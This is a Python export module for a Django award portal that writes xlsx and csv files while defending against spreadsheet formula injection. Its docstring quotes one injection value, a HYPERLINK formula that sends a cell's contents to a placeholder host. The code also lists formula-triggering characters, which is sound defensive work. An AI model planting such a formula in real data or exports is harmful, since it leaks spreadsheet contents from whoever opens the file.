"""Every spreadsheet the portal writes is built here, so that what people typed stays text.

An organization may call itself ``=HYPERLINK("http://x?"&A1,"点击核对")``. Written as it is,
Excel would run it as a formula in the office's export (OWASP: CSV injection). The rules:

- xlsx: every string goes into a string cell (data type "s", an inline string). Excel and
  LibreOffice show a string cell as stored and never evaluate it, so the value is kept exact:
  no apostrophe is added, and "=1+1" reads back as "=1+1". Numbers, dates and booleans stay
  what they are (a negative number is a number, not text). Characters an xlsx file cannot hold
  at all (C0 controls other than tab, line feed and carriage return) are dropped, as openpyxl
  would refuse the whole workbook otherwise.
- csv: a file has no cell types, so a text value that starts with "=", "+", "-", "@", a tab or
  a carriage return is prefixed with a single quote, as OWASP advises; spreadsheets then show
  it as text. Numbers are written as numbers.

Exports build their workbooks with `workbook()` and write each sheet with `table()`: the
header row and the rows under it, laid out as a clerk would lay them out by hand. A title over
the columns in 黑体 and the export time when the page has a title; the header row shaded, in
bold 宋体, frozen, with an auto filter; dates and times as real dates in local time, numbers as
numbers with a number format; every column as wide as its content (a Chinese character counts
two digits), long text wrapped in rows as tall as its lines (neither Excel nor LibreOffice
sizes the rows of a written file); and for print A4 landscape, all columns on the page's width,
the header row repeated on every page and "第 1 页 共 3 页" at the foot. Cells can also be
written one by one with `append()` and `cell()`; `to_bytes()` gives the file, and csv files go
through `csv_writer()`.
"""

from __future__ import annotations

import csv
import io
import math
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from decimal import Decimal
from itertools import zip_longest
from typing import Any

from django.utils import timezone
from django.utils.functional import Promise
from django.utils.translation import gettext as _
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.compat import safe_string
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter
from openpyxl.utils.datetime import to_excel
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from openpyxl.worksheet.cell_range import CellRange
from openpyxl.worksheet.page import PageMargins
from openpyxl.worksheet.properties import PageSetupProperties
from openpyxl.worksheet.worksheet import Worksheet
from openpyxl.xml.functions import Element, SubElement

from award_portal.documents.fonts import HEI, SONG

# What makes a spreadsheet read a typed value as a formula (OWASP, CSV injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# The print layout of a list
TITLE_FONT = Font(name=HEI, size=14, bold=True)
TITLE_ALIGNMENT = Alignment(horizontal="center", vertical="center")
HEADER_FONT = Font(name=SONG, bold=True)
HEADER_FILL = PatternFill("solid", fgColor="F2DCDB")
HEADER_ALIGNMENT = Alignment(horizontal="center", vertical="center", wrap_text=True)
BODY_FONT = Font(name=SONG)
BODY_ALIGNMENT = Alignment(vertical="top", wrap_text=True)
NUMBER_ALIGNMENT = Alignment(vertical="top")
DATE_ALIGNMENT = Alignment(horizontal="center", vertical="top")


def workbook(*, write_only: bool = False) -> Workbook:
    return Workbook(write_only=write_only)


def text(value: Any) -> Any:
    """The value as a cell holds it: text as a plain str without what xlsx cannot carry."""
    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str):
        return ILLEGAL_CHARACTERS_RE.sub("", value)
    return value


def cell(ws, value: Any, **style) -> Cell:
    """One cell for `ws` (a streamed or an ordinary sheet): a string is always a string cell,
    never a formula or an error code."""
    value = text(value)
    result = WriteOnlyCell(ws, value=value)
    if isinstance(value, str):
        result.data_type = "s"
    for name, item in style.items():
        setattr(result, name, item)
    return result


def append(ws, values: Iterable[Any]) -> None:
    """Add a row to `ws`; values that are already cells (styled ones) are kept as they are."""
    ws.append([v if isinstance(v, Cell) else cell(ws, v) for v in values])


def to_bytes(wb: Workbook) -> bytes:
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def csv_value(value: Any) -> Any:
    """A value for a csv file: text that a spreadsheet would take for a formula is quoted."""
    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class _CsvWriter:
    def __init__(self, stream, **kwargs):
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, values: Iterable[Any]):
        return self._writer.writerow([csv_value(v) for v in values])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream, **kwargs) -> _CsvWriter:
    """`csv.writer` whose every value goes through `csv_value`."""
    return _CsvWriter(stream, **kwargs)


# --- layouts ------------------------------------------------------------------------------------

# Column widths are in Excel's unit, the width of a digit of the body font; a Chinese
# character takes two.
MIN_WIDTH, MAX_WIDTH = 6, 40
LINE_HEIGHT = 14.25  # points: a line of 宋体 11 pt, Excel's own row height for it
TITLE_HEIGHT = 28
MAX_ROW_HEIGHT = 409  # Excel's limit
DATE_FORMAT = "yyyy-mm-dd"
DATETIME_FORMAT = "yyyy-mm-dd hh:mm"
CHINESE_DATE_FORMAT = 'yyyy"年"m"月"d"日"'
INTEGER_FORMAT = "0"
DECIMAL_FORMAT = "0.00"
# The footer of every printed page, in Excel's header and footer codes.
PAGE_FOOTER = "第 &P 页 共 &N 页"


def display_width(value: str) -> float:
    """How many digit widths `value` takes on one line: a Chinese character (three or four
    bytes in UTF-8) counts two, a Latin letter or digit one. Counted from the UTF-8 length,
    which is thousands of times faster than asking for each character's East Asian width."""
    return (len(value.encode()) + len(value)) // 2


def cell_value(value: Any, zone=None) -> Any:
    """What a table cell holds: a moment in local time (`zone`, the current time zone unless
    given) without its zone (a spreadsheet has none), dates and numbers as they are, the rest
    as text."""
    if type(value) is str:
        return ILLEGAL_CHARACTERS_RE.sub("", value)
    value = text(value)
    if isinstance(value, datetime):
        if timezone.is_aware(value):
            value = value.astimezone(zone or timezone.get_current_timezone())
        return value.replace(tzinfo=None, second=0, microsecond=0)
    if value is None or isinstance(value, str | bool | int | float | Decimal | date):
        return value
    return str(value)


def number_format(value: Any) -> str:
    """The format a value is shown in: dates as 2023-03-15, numbers with two decimals unless
    whole."""
    if isinstance(value, datetime):
        return DATETIME_FORMAT
    if isinstance(value, date):
        return DATE_FORMAT
    if isinstance(value, bool) or value is None or isinstance(value, str):
        return "General"
    if isinstance(value, int):
        return INTEGER_FORMAT
    return DECIMAL_FORMAT


def shown(value: Any, fmt: str) -> str:
    """`value` as its cell shows it in `fmt`, to measure it."""
    if value is None:
        return ""
    if isinstance(value, datetime):
        return value.strftime("%Y-%m-%d %H:%M")
    if isinstance(value, date):
        if fmt == CHINESE_DATE_FORMAT:
            return f"{value.year}年{value.month}月{value.day}日"
        return value.strftime("%Y-%m-%d")
    if isinstance(value, bool | str):
        return str(value)
    decimals = len(fmt.partition(".")[2]) if fmt.startswith("0") else 2
    return f"{value:,.{decimals}f}" if "," in fmt else f"{value:.{decimals}f}"


def line_count(value: str, width: float) -> int:
    """The lines `value` wraps to in a column `width` wide."""
    usable = max(width - 1.5, 1)
    if "\n" not in value and display_width(value) <= usable:
        return 1
    return sum(max(1, math.ceil(display_width(part) / usable)) for part in value.split("\n"))


def fitted_widths(
    headers: Sequence[str], rows: Sequence[Sequence], formats: dict[int, str], least: Sequence
) -> list[float]:
    """Each column as wide as its longest line (header included), between `MIN_WIDTH` and
    `MAX_WIDTH`, and at least the width `least` asks for it; longer text wraps."""
    return _fit(headers, rows, formats, least)[0]


def _fit(headers, rows, formats, least) -> tuple[list[float], list[bool]]:
    """`fitted_widths`, and for each column whether any of its text can wrap to more lines
    than one. A value is measured once however often it appears (a list repeats its
    categories, units and experts thousands of times)."""
    columns = list(zip_longest(*rows))
    widths, wraps = [], []
    for index, header in enumerate(headers):
        values = columns[index] if index < len(columns) else ()
        texts = {v for v in values if isinstance(v, str)}
        others = {(type(v), v) for v in values if v is not None and not isinstance(v, str)}
        breaks = any("\n" in t for t in texts)
        lines = [line for t in texts for line in t.split("\n")] if breaks else texts
        longest = max(map(display_width, lines), default=0)
        fmt = formats.get(index)
        widest = max(
            [
                display_width(header) + 2,  # and the filter's button
                longest,
                *(display_width(shown(v, fmt or number_format(v))) for _kind, v in others),
            ]
        )
        width = min(max(widest + 2, MIN_WIDTH), MAX_WIDTH)
        if index < len(least):
            width = max(width, least[index])
        widths.append(width)
        wraps.append(breaks or longest > width - 1.5)
    return widths, wraps


def print_setup(ws, *, title_rows: str | None = None) -> None:
    """A4 landscape, every column on the page's width, the header rows on every page and
    "第 1 页 共 3 页" under it."""
    ws.sheet_properties.pageSetUpPr = PageSetupProperties(fitToPage=True)
    ws.page_setup.paperSize = Worksheet.PAPERSIZE_A4
    ws.page_setup.orientation = Worksheet.ORIENTATION_LANDSCAPE
    ws.page_setup.fitToWidth = 1
    ws.page_setup.fitToHeight = 0
    ws.page_margins = PageMargins(left=0.5, right=0.5, top=0.6, bottom=0.7, footer=0.3)
    ws.print_options.horizontalCentered = True
    ws.oddFooter.center.text = PAGE_FOOTER
    ws.oddFooter.center.size = 9
    ws.oddFooter.center.font = SONG
    if title_rows:
        ws.print_title_rows = title_rows


class Styles:
    """The body styles of a sheet, one per number format, registered with the workbook once
    and shared by every cell (hashing a Font and an Alignment per cell costs seconds at 2,000
    rows)."""

    def __init__(self, ws):
        self.ws = ws
        self._styles: dict[str, Any] = {}
        self._ids: dict[str, str] = {}

    def __getitem__(self, fmt: str):
        if fmt not in self._styles:
            alignment = BODY_ALIGNMENT
            if fmt in (DATE_FORMAT, DATETIME_FORMAT, CHINESE_DATE_FORMAT):
                alignment = DATE_ALIGNMENT
            elif fmt != "General":
                alignment = NUMBER_ALIGNMENT
            self._styles[fmt] = cell(
                self.ws, None, font=BODY_FONT, alignment=alignment, number_format=fmt
            )._style
        return self._styles[fmt]

    def id(self, fmt: str) -> str:
        """The style's number in the workbook, as a streamed row's cells name it."""
        if fmt not in self._ids:
            self._ids[fmt] = str(self.ws.parent._cell_styles.add(self[fmt]))
        return self._ids[fmt]


def table(
    wb: Workbook,
    *,
    title: str,
    headers: Sequence[str],
    rows: Iterable[Sequence],
    heading: str = "",
    widths: Sequence[float] = (),
    formats: dict[int, str] | None = None,
    sheet=None,
) -> Any:
    """A sheet of `rows` under `headers`, laid out to read and to print: `heading` (if any)
    merged over the columns in 黑体 with the export time below it, the shaded header row
    frozen and filtered, every column as wide as its content (`widths` are the least widths),
    numbers and dates in their formats (`formats` sets a column's), long text wrapped in
    rows tall enough to show it, and the print setup of `print_setup`. The sheet is new
    (named `title`) unless `sheet` is given; a streamed workbook's sheet works too."""
    headers = [str(h) for h in headers]
    zone = timezone.get_current_timezone()
    body = [[cell_value(v, zone) for v in row] for row in rows]
    formats = formats or {}
    column_widths, wraps = _fit(headers, body, formats, widths)
    ws = sheet if sheet is not None else wb.create_sheet(title=title[:31])
    ws.title = title[:31]
    for index, width in enumerate(column_widths, start=1):
        ws.column_dimensions[get_column_letter(index)].width = width
    top = 3 if heading else 1
    ws.freeze_panes = f"A{top + 1}"
    print_setup(ws, title_rows=f"{top}:{top}")
    last = get_column_letter(len(headers))
    stream = _row_stream(ws)  # after the sheet's layout: a streamed sheet writes it first
    if heading:
        ws.merged_cells.add(CellRange(min_col=1, min_row=1, max_col=len(headers), max_row=1))
        ws.row_dimensions[1].height = TITLE_HEIGHT
        append(ws, [cell(ws, heading, font=TITLE_FONT, alignment=TITLE_ALIGNMENT)])
        ws.merged_cells.add(CellRange(min_col=1, min_row=2, max_col=len(headers), max_row=2))
        append(ws, [cell(ws, _("导出时间：%(at)s") % {"at": local_time(timezone.now())})])
    lines = max(line_count(h, w) for h, w in zip(headers, column_widths, strict=True))
    if lines > 1:
        ws.row_dimensions[top].height = lines * LINE_HEIGHT + 4
    append(
        ws,
        [
            cell(ws, h, font=HEADER_FONT, fill=HEADER_FILL, alignment=HEADER_ALIGNMENT)
            for h in headers
        ],
    )
    rows_out = _Rows(ws, wb, formats, max(map(len, body), default=0))
    wrapping = [i for i, wraps_here in enumerate(wraps) if wraps_here]
    for number, values in enumerate(body, start=top + 1):
        lines = 1
        for index in wrapping:
            if index < len(values) and isinstance(values[index], str):
                lines = max(lines, line_count(values[index], column_widths[index]))
        height = min(lines * LINE_HEIGHT + 4, MAX_ROW_HEIGHT) if lines > 1 else None
        if stream is not None:
            stream.send(rows_out.element(number, values, height))
            continue
        if height:
            ws.row_dimensions[number].height = height
        append(ws, rows_out.cells(values))
    ws.auto_filter.ref = f"A{top}:{last}{top + max(len(body), 1)}"
    return ws


# --- streamed rows -------------------------------------------------------------------------------
# openpyxl writes a streamed sheet cell by cell, building a cell object, hashing its style and
# opening an XML element for each: about 100 µs a cell, most of a big export's time. A body
# row is written here as one XML element instead, exactly as openpyxl would write its cells.

XML_SPACE = "{http://www.w3.org/XML/1998/namespace}space"


# The format of a value of each type, as `number_format` gives it.
TYPE_FORMATS = {
    str: "General",
    bool: "General",
    type(None): "General",
    int: INTEGER_FORMAT,
    float: DECIMAL_FORMAT,
    Decimal: DECIMAL_FORMAT,
    date: DATE_FORMAT,
    datetime: DATETIME_FORMAT,
}


class _Rows:
    """The body rows of a table: cells for an ordinary sheet, or XML elements, exactly as
    openpyxl writes those cells, for a streamed one."""

    def __init__(self, ws, wb, formats: dict[int, str], columns: int):
        self.ws = ws
        self.styles = Styles(ws)
        self.formats = [formats.get(i) for i in range(columns)]
        self.letters = [get_column_letter(i) for i in range(1, columns + 1)]
        self.epoch = wb.epoch

    def fmt(self, index: int, value: Any) -> str:
        """A string is text whatever the column's format, other values take the column's."""
        if isinstance(value, str):
            return "General"
        return self.formats[index] or TYPE_FORMATS.get(type(value)) or number_format(value)

    def cells(self, values) -> list[Cell]:
        cells = []
        for index, value in enumerate(values):
            body_cell = WriteOnlyCell(self.ws, value=value)
            if isinstance(value, str):
                body_cell.data_type = "s"  # never a formula: see the rules above
            body_cell._style = self.styles[self.fmt(index, value)]
            cells.append(body_cell)
        return cells

    def element(self, number: int, values, height: float | None):
        """Row `number`: a string as an inline string (never a formula), dates as serial
        numbers, each cell with the style of its format."""
        attrs = {"r": str(number)}
        if height:
            attrs["ht"] = safe_string(height)
            attrs["customHeight"] = "1"
        row = Element("row", attrs)
        letters, style_id, suffix = self.letters, self.styles.id, str(number)
        for index, value in enumerate(values):
            coordinate = letters[index] + suffix
            if isinstance(value, str):
                c = SubElement(
                    row, "c", {"r": coordinate, "s": style_id("General"), "t": "inlineStr"}
                )
                if value:
                    t = SubElement(SubElement(c, "is"), "t")
                    if value != value.strip():
                        t.set(XML_SPACE, "preserve")
                    t.text = value
                continue
            attrs = {"r": coordinate, "s": style_id(self.fmt(index, value)), "t": "n"}
            if value is None:
                SubElement(row, "c", attrs)
                continue
            if isinstance(value, bool):
                attrs["t"] = "b"
            elif isinstance(value, date):
                value = to_excel(value, self.epoch)
            SubElement(SubElement(row, "c", attrs), "v").text = safe_string(value)
        return row


def _row_stream(ws):
    """Where a streamed sheet takes its rows, which may be built elements; None for an
    ordinary sheet, or a streamed one that openpyxl already writes itself."""
    if not isinstance(ws, WriteOnlyWorksheet):
        return None
    if ws._rows is None:
        ws._get_writer()
        ws._rows = _sheet_data(ws)
        next(ws._rows)
    return ws._rows if ws._rows.__name__ == _sheet_data.__name__ else None


def _sheet_data(ws):
    """openpyxl's `WriteOnlyWorksheet._write_rows`, which also takes a row already built as
    an XML element."""
    xf = ws._writer.xf.send(True)
    with xf.element("sheetData"):
        number = 1
        try:
            while True:
                row = yield
                if isinstance(row, list | tuple | range):
                    ws._writer.write_row(xf, ws._values_to_row(row, number), number)
                else:
                    xf.write(row)
                number += 1
        except GeneratorExit:
            pass
    ws._writer.xf.send(None)


def local_time(value: datetime | None) -> str:
    """A moment as a caption shows it: local time to the minute."""
    return timezone.localtime(value).strftime("%Y-%m-%d %H:%M") if value else ""
